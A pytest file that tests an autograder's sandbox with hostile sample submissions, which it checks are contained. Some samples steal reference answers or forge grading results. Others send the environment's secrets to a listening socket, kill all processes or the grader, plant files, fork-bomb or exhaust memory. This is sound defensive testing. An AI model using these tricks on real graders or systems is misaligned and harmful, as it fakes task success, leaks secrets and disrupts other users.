"""Sealed grading: no answer, no verdict and no classmate within a student's reach.

One batch per mode (as root, and as an unprivileged user), with submissions that try each way
of scoring without solution code, or of hurting a classmate, beside honest students. The stub
file (every stub raising NotImplementedError) scores 0, so whatever an answer-stealing
submission scores came from its attack.
"""

import csv
import json
import os
import socket
import subprocess
import sys
import threading

import pytest

from autograder.judge import reference_results
from autograder.levels import EXERCISES_DIR, REPO_ROOT, SOLUTIONS_DIR
from tests.catalog import mutate
from tests.sandbox_users import MODES, give_to, grading_as, processes_with

pytestmark = pytest.mark.slow

STUBS = (EXERCISES_DIR / "level1_manual.py").read_text()
REFERENCE = (SOLUTIONS_DIR / "level1_manual.py").read_text()
FULL = 25
SECRET = "grader-secret-7d1f"
NAMES = "make_data, init_weights, forward, mse, sgd_update, zero_grad"


def stubs_then(code):
    """The untouched stubs, then code run at import that tries to fill them from elsewhere."""
    return STUBS.replace('\nif __name__ == "__main__":', "\n" + code + '\n\nif __name__ == "__main__":', 1)


def reference_then(code):
    """The reference (full marks), then code run at import; its failures are swallowed."""
    body = "\n".join("    " + line for line in code.splitlines())
    return REFERENCE.replace('\nif __name__ == "__main__":', f"\ntry:\n{body}\nexcept Exception:\n    pass\n"
                             '\n\nif __name__ == "__main__":', 1)


def answer_thieves():
    """Level files with no solution code that try to take the answers or forge the verdict."""
    solutions = str(SOLUTIONS_DIR / "level1_manual.py")
    replay = json.dumps({k: v for k, v in reference_results(1, "cpu", 0).items()})  # right for challenge 0 only
    take = f"{NAMES} = (ref.make_data, ref.init_weights, ref.forward, ref.mse, ref.sgd_update, ref.zero_grad)"
    guarded = "try:\n{}\nexcept BaseException:\n    pass"

    def attempt(code):
        return stubs_then(guarded.format("\n".join("    " + line for line in code.splitlines())))

    return {
        "via_loader": attempt(f"from autograder.judge import load_reference\nref = load_reference(1)\n{take}"),
        # the grader's closed forms would answer the gradient and update checks without solving them
        "via_closed_forms": attempt(
            "from autograder.checks import closed_form\n"
            "forward = lambda w, x: x @ w\nmse = lambda y, yhat: ((y - yhat) ** 2).mean()\n"
            "def sgd_update(w, lr):\n    w.data -= lr * w.grad\n"
            "def zero_grad(w):\n    w.grad = None\nclosed_form.gradient"),
        "via_sys_modules": attempt("import sys\nref = [m for n, m in list(sys.modules.items()) "
                                   f"if 'reference' in n or n.startswith('solutions')][0]\n{take}"),
        "via_kit_path": attempt(
            "import importlib.util, pathlib, autograder\n"
            "path = pathlib.Path(autograder.__file__).parent.parent / 'solutions' / 'level1_manual.py'\n"
            f"path = path if path.exists() else pathlib.Path({solutions!r})\n"
            "spec = importlib.util.spec_from_file_location('stolen', path)\n"
            "ref = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(ref)\n" + take),
        "exec_by_path": attempt(f"exec(open({solutions!r}).read(), globals())"),
        "from_solutions": attempt("from solutions.level1_manual import *"),
        "binds_grader_code": attempt("from autograder.probe.tensors import describe as forward"),
        # answers computed for another challenge, replayed by re-pointing the kit's probe function
        "replays_probe_data": attempt(
            f"import json\nimport autograder.probe.run as steps\nDATA = json.loads({replay!r})\n"
            "IDS = {probe: check_id for check_id, probe in steps.PROBES.items()}\n"
            "steps.run_shared = lambda shared, probe, module, ctx, student_file=None: DATA[IDS[probe]]"),
        # the same answers written straight to every descriptor that might be the grader's channel
        "writes_channel": attempt(
            f"import json, os, struct\nDATA = json.loads({replay!r})\n"
            "frames = [{'id': 'level1.import', 'result': {'data': None}}] + "
            "[{'id': k, 'result': v} for k, v in DATA.items()] + [{'done': True}]\n"
            "raw = b''.join(struct.pack('>I', len(b)) + b for b in (json.dumps(f).encode() for f in frames))\n"
            "for fd in range(3, 64):\n    try:\n        os.write(fd, raw)\n    except OSError:\n        pass"),
    }


TRAIN_FORGERY = mutate(1, {}).replace(
    "def train(X, Y, w, lr=0.01, epochs=100, num_batches=100, seed=10):",
    "def train(X, Y, w, lr=0.01, epochs=100, num_batches=100, seed=10):\n"
    "    with torch.no_grad():\n        w.copy_(torch.tensor([-1.0, 3.0]))\n"
    "    return [4.4 / 3 ** k for k in range(epochs)]\n\n\ndef _unused_train(X, Y, w, lr=0.01, epochs=100, "
    "num_batches=100, seed=10):")


def neighbours(listen_port):
    """Honest code plus an attack on classmates or the grader: each must still score FULL, and
    the attack must fail (checked after the batch)."""
    return {
        "a_plants_tmp": reference_then("open('/tmp/planted', 'w').write('x')\nopen('/dev/shm/planted', 'w').write('x')"),
        "b_sees_no_plant": REFERENCE.replace(
            "import torch\n", "import torch\nimport os\nassert not os.path.exists('/tmp/planted')\n"
            "assert not os.path.exists('/dev/shm/planted')\n", 1),
        "calls_home": reference_then(
            "import socket, os\ns = socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
            "s.sendall(repr(dict(os.environ)).encode())" % listen_port),
        "leaves_a_daemon": reference_then(
            "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execv('/bin/sleep', ['sleep', '1234.5678'])\n    os._exit(0)"),
        "kills_what_it_can": reference_then("import os, signal\nos.kill(-1, signal.SIGKILL)"),
        "kills_the_grader": reference_then("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
        "fork_bomb_is_capped": REFERENCE.replace("import torch\n", (
            "import torch\nimport os, time\nchildren = []\nfor _ in range(300):\n    try:\n        pid = os.fork()\n"
            "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n"
            "    children.append(pid)\nassert len(children) < 100, 'no process cap'\n"), 1),
        "looks_like_a_laptop": REFERENCE.replace("import torch\n", (
            "import torch\nimport os, getpass, socket\nassert 'grade' not in os.getcwd()\n"
            "assert os.getuid() == 1000 and getpass.getuser() == 'student'\n"
            f"assert not any('AUTOGRADER' in k or {SECRET!r} in v for k, v in os.environ.items())\n"
            f"for seen in [{str(REPO_ROOT / 'solutions')!r}, {str(REPO_ROOT / 'tests')!r}, "
            f"{str(REPO_ROOT / 'examples')!r}, '/tmp/pytest-of-root']:\n"
            "    assert not os.path.exists(seen), seen\n"
            "import importlib.util, autograder\n"  # the probe side only: no judge, closed form or reference
            "assert [sorted(os.listdir(p)) for p in autograder.__path__] == [['probe']], autograder.__path__\n"
            "for name in ('autograder.checks', 'autograder.judge', 'autograder.grade', 'autograder.levels'):\n"
            "    assert importlib.util.find_spec(name) is None, name\n"), 1),
        "memory_as_a_whole": REFERENCE.replace("import torch\n", (
            "import torch\nimport os\npids = []\nfor _ in range(4):\n    pid = os.fork()\n    if pid == 0:\n"
            "        hog = bytearray(400 * 2**20)\n        hog[::4096] = b'x' * len(hog[::4096])\n"
            "        import time\n        time.sleep(20)\n        os._exit(0)\n    pids.append(pid)\n"
            "hog = bytearray(400 * 2**20)\nhog[::4096] = b'x' * len(hog[::4096])\n"
            "for pid in pids:\n    os.waitpid(pid, 0)\n"), 1),
    }


class Listener:
    """A loopback server on the grader's side of the network: nothing must ever reach it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        self.server.settimeout(0.5)
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(connection.recv(65536))
            connection.close()

    def close(self):
        self.running = False
        self.thread.join(5)
        self.server.close()


def run_batch(prefix, submissions, out, *args, cwd=REPO_ROOT):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(REPO_ROOT),
           "AUTOGRADER_TEST_TOKEN": SECRET, "GRADER_SECRET": SECRET}
    return subprocess.run([*prefix, sys.executable, "-m", "autograder", "batch", str(submissions), "--out", str(out),
                           *map(str, args)], cwd=cwd, env=env, capture_output=True, text=True, timeout=900)


def reports_of(out, names):
    return {name: json.loads((out / f"{name}.json").read_text()) for name in names}


@pytest.mark.parametrize("mode", MODES)
def test_no_answer_and_no_forgery_scores(mode):
    with grading_as(mode) as (prefix, folder):
        submissions, out = folder / "class", folder / "out"
        students = {"stubs": STUBS, **answer_thieves(), "forges_train": TRAIN_FORGERY, "honest": REFERENCE}
        for name, text in students.items():
            (submissions / name).mkdir(parents=True)
            (submissions / name / "level1_manual.py").write_text(text)
        give_to(mode, folder)
        result = run_batch(prefix, submissions, out, "--workers", "2", "--timeout", "20")
        assert result.returncode == 0, result.stderr[-3000:]
        reports = reports_of(out, students)
    level1 = {name: report["levels"][0]["score"] for name, report in reports.items()}
    assert level1["stubs"] == 0 and level1["honest"] == FULL, level1
    for name in answer_thieves():
        failed = {c["id"]: c["message"][:200] for c in reports[name]["checks"] if c["level"] == 1 and not c["passed"]}
        # only checks whose answer is a shape and flags can be forged without computing anything:
        # init_weights (a random tensor of the asked size) and device (2 points each)
        passed = {c["id"] for c in reports[name]["checks"] if c["level"] == 1 and c["passed"]}
        assert passed <= {"level1.init_weights", "level1.device"}, (name, level1[name], failed)
    train = next(c for c in reports["forges_train"]["checks"] if c["id"] == "level1.train")
    assert not train["passed"] and train["diagnosis"] == "wrong_step_count", train
    assert level1["forges_train"] == FULL - train["max_points"]
    borrowed = next(c for c in reports["binds_grader_code"]["checks"] if c["id"] == "level1.forward")
    assert "grader's own code" in borrowed["message"], borrowed


@pytest.mark.parametrize("mode", MODES)
def test_classmates_and_the_grader_are_out_of_reach(mode):
    listener = Listener()
    try:
        with grading_as(mode) as (prefix, folder):
            submissions, out = folder / "class", folder / "out"
            students = neighbours(listener.port)
            for name, text in students.items():
                (submissions / name).mkdir(parents=True)
                (submissions / name / "level1_manual.py").write_text(text)
            give_to(mode, folder)
            # one worker: the planter is graded before the student who must not see its files
            result = run_batch(prefix, submissions, out, "--workers", "1", "--timeout", "20", "--memory", "1024")
            assert result.returncode == 0, result.stderr[-3000:]
            reports = reports_of(out, students)
            with open(out / "grades.csv") as handle:
                rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    finally:
        listener.close()
    for name in students:
        level1 = reports[name]["levels"][0]["score"]
        if name == "memory_as_a_whole":
            continue
        failed = [c["message"][:300] for c in reports[name]["checks"] if not c["passed"] and c["level"] == 1]
        assert level1 == FULL, (name, failed)
        # the one that imports the grader's package to look around is read before it runs, and held
        assert rows[name]["status"] == ("flagged" if name == "looks_like_a_laptop" else "graded"), name
    hog = reports["memory_as_a_whole"]
    assert hog["levels"][0]["score"] == 0, hog["checks"][0]
    assert "memory limit" in hog["checks"][0]["message"], hog["checks"][0]["message"]
    assert listener.received == [], "a sandbox reached the grader's network"
    assert processes_with(b"1234.5678") == [], "a process a student started outlived the batch"
